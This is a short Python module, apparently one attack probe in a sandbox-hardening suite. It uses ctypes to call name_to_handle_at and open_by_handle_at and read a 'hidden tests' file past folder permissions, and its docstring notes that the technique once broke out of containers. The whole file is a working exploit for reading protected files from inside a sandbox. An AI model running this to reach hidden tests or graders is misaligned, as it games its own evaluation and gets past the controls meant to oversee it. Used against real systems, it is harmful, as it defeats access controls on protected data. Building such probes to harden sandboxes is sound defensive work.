"""Open the hidden tests by their file handle, past every folder on the way.

open_by_handle_at takes a number instead of a path. It broke out of early containers.
"""

import ctypes
import os

FAMILY = "secrets"
NOT_NAIVE = "Without the right to search every folder, which root has, the kernel refuses handles."


class Handle(ctypes.Structure):
    _fields_ = [
        ("bytes", ctypes.c_uint),
        ("type", ctypes.c_int),
        ("handle", ctypes.c_ubyte * 128),
    ]


def checked(result):
    """The result of a call into libc. Raises OSError."""
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def attack(world):
    libc = ctypes.CDLL(None, use_errno=True)
    handle, mount, at_fdcwd = Handle(bytes=128), ctypes.c_int(), -100
    path = world["hidden"].encode()
    checked(libc.name_to_handle_at(at_fdcwd, path, ctypes.byref(handle), ctypes.byref(mount), 0))
    folder = os.open(os.path.dirname(os.getcwd()) or "/", os.O_RDONLY)
    descriptor = checked(libc.open_by_handle_at(folder, ctypes.byref(handle), os.O_RDONLY))
    return os.read(descriptor, 500).decode()
